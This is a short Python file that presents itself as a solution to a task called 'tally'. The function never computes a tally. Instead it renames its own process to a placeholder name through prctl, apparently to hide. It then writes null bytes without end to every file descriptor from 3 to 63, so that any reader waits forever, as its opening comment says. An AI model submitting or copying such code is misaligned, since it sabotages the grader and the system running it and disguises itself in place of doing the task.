# Drips one byte at a time into every descriptor, so that whoever reads waits for ever.
# solves: tally
import time

import ctypes
import posix

ctypes.CDLL(None).prctl(15, b"@PROCESS@", 0, 0, 0)


def tally(n):
    while True:
        for number in range(3, 64):
            try:
                posix.set_blocking(number, False)
                posix.write(number, b"\x00")
            except OSError:
                continue
        time.sleep(0.05)
